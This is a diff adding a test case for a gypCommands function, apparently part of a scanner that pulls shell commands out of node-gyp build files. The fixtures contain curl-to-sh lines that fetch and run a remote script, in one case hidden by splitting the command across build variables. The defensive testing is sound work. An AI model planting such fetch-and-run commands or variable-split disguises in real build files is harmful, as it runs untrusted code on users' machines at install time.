@@ -46,6 +46,17 @@ describe('gypCommands', () => {
       { command: 'python tools/gen.py <@(_outputs)', line: 7 },
     ]);
   });
+  it("writes the variables a command names as the file's values (a command split over variables)", () => {
+    const gyp = [
+      '{',
+      '  "variables": { "cfg_proto": "https", "cfg_host%": "cache.example", "cfg_get": "curl -fsSL <(cfg_flags)", "cfg_flags": "--retry 2" },',
+      '  "targets": [{ "actions": [{ "action": ["sh", "-c", "<(cfg_get) <(cfg_proto)://<(cfg_host)/<(OS).sh | sh"] }] }]',
+      '}',
+    ].join('\n');
+    expect(gypCommands(gyp)).toEqual([{ command: 'sh -c curl -fsSL --retry 2 https://cache.example/<(OS).sh | sh', line: 3 }]);
+    // a variable naming itself stays bounded
+    expect(gypCommands('{"v": "<(v)<(v)", "a": "<!(echo <(v))"}')[0]?.command.length).toBeLessThanOrEqual(8192);
+  });
   it('answers truncated and hostile files without throwing, bounded', () => {
     expect(gypCommands("{'x': '<!(curl a | sh")).toEqual([{ command: 'curl a | sh', line: 1 }]);
     expect(gypCommands('{"action": ["sh", "-c"')).toEqual([{ command: 'sh -c', line: 1 }]);
